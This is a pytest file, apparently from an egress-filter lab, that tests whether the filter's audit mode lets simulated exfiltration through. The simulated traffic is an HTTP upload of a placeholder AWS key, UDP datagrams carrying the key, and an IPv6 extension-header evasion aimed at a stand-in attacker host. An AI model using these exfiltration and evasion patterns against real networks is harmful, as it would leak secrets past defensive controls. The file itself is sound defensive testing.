"""Positive controls: the attacker's recorders and the wire sniffer do see
IPv6, UDP, IPv6 extension headers and host-mode traffic when egressd lets it
through, so a zero-bytes assertion in those cases means something.

egressd runs in audit mode (enforce = no: "let it pass, log what enforcing
would deny"), the same attacker addresses and tools as the denial tests
(curl/sockets, test_flows' UDP datagrams, test_evasion's rawtcp.py with an
extension chain). Each control also checks that egressd saw the flow (its
audit deny event), so the traffic crossed the same hook as in the tests.
The existing controls (test_evasion, test_dhcp_nd, test_tcp_stream) cover
gateway/IPv4/TCP 443 and unfiltered probes.
"""
import json
import os

import pytest

import lab as L

AKIA = "AKIAIOSFODNN7EXAMPLE"
EXT_CHAIN = "hbh,dst,rt,dst"
EXT_PROTOS = [0, 60, 43, 60]  # hop-by-hop, destination options, routing, destination options
UDP_CODE = ("import socket,sys; f=socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET; "
            "s=socket.socket(f,socket.SOCK_DGRAM); "
            "[s.sendto(bytes([0xc3,0,0,0,1])+b'AKIAIOSFODNN7EXAMPLE'*40,(sys.argv[1],443)) "
            "for _ in range(3)]")


def attacker(fam):
    return L.ATTACKER6 if fam == "6" else L.ATTACKER4


def audit(lab):
    e = lab.start_egressd(enforce=False)
    return e


def audit_deny(e, dst, proto):
    return e.wait_event(lambda x: x.get("event") == "deny" and x.get("dst") == dst
                        and x.get("proto") == proto and x.get("enforced") is False,
                        what="audit deny of %s to %s" % (proto, dst))


def received(lab, proto, peer_fam, at_least):
    """Wait until the attacker's recorder holds at_least bytes of proto."""
    def enough():
        conns = [c for c in lab.attacker_records()["connections"] if c["proto"] == proto
                 and (":" in c["peer"]) == (peer_fam == "6")]
        return sum(c["bytes"] for c in conns) >= at_least and conns
    return L.wait_for(enough, 5, "the attacker's recorder to get %d bytes of %s/IPv%s"
                      % (at_least, proto, peer_fam))


def crafted_ext(lab, dst):
    """evasion/rawtcp.py as test_ipv6_extension_headers_walked runs it."""
    args = [L.PY, os.path.join(L.HERE, "evasion", "rawtcp.py"), "--dst", dst, "--port", "443",
            "--plan", "reverse:3", "--timeout", "2", "--sni", "evil.attacker.example",
            "--cafile", lab.ca["ca"], "--ext", EXT_CHAIN]
    p = lab.ns_run(lab.cli, args, timeout=12)
    try:
        r = json.loads(p.stdout)
    except ValueError:
        raise L.LabError("rawtcp.py printed no JSON (%s): %s%s" % (p.returncode, p.stdout,
                                                                  p.stderr))
    assert r["result"] != "error", r
    return r


def sniffed(rec, dst, proto):
    return [p for p in rec["packets"] if p["dst"] == dst and p["proto"] == proto and p["payload"]]


@pytest.mark.parametrize("fam", ["4", "6"])
def test_control_tcp_reaches_attacker(anylab, fam):
    dst = attacker(fam)
    e = audit(anylab)
    body = "key=" + AKIA
    with L.sniffing(anylab, dst) as rec:
        p = anylab.curl("http://%s/upload" % ("[%s]" % dst if fam == "6" else dst), "-d", body,
                        timeout=6)
        assert p.returncode == 0 and p.stdout == "ok\n", p.stdout + p.stderr
        conns = received(anylab, "tcp", fam, len(body))
    assert any(AKIA in c["head"] for c in conns), conns
    assert sum(x["payload"] for x in sniffed(rec, dst, 6)) >= len(body), rec
    audit_deny(e, dst, "tcp")


@pytest.mark.parametrize("fam", ["4", "6"])
def test_control_udp_reaches_attacker(anylab, fam):
    """test_flows' QUIC-looking datagrams, let through: both recorders see them."""
    dst = attacker(fam)
    e = audit(anylab)
    with L.sniffing(anylab, dst) as rec:
        p = anylab.ns_run(anylab.cli, [L.PY, "-c", UDP_CODE, dst])
        assert p.returncode == 0, p.stderr
        conns = received(anylab, "udp", fam, 3 * (5 + 40 * len(AKIA)))
        L.wait_for(lambda: len(sniffed(json.load(open(rec["path"])), dst, 17)) >= 3, 3,
                   "the sniffer to see 3 datagrams")
    assert all(AKIA in c["head"] for c in conns), conns
    assert len(sniffed(rec, dst, 17)) >= 3, rec
    audit_deny(e, dst, "udp")


def test_control_ipv6_extension_headers_reach_attacker(anylab):
    """test_evasion's crafted hello behind hop-by-hop, destination options and
    routing headers: the sniffer walks the chain to the payload, the attacker
    reads the hello."""
    e = audit(anylab)
    with L.sniffing(anylab, L.ATTACKER6) as rec:
        r = crafted_ext(anylab, L.ATTACKER6)
        assert r["synack"], r
        received(anylab, "tcp", "6", r["hello_len"])
    pkts = [x for x in sniffed(rec, L.ATTACKER6, 6) if x.get("sport") == r["sport"]]
    with_chain = [x for x in pkts if x.get("ext") == EXT_PROTOS]
    assert sum(x["payload"] for x in with_chain) >= r["hello_len"], rec
    audit_deny(e, L.ATTACKER6, "tcp")
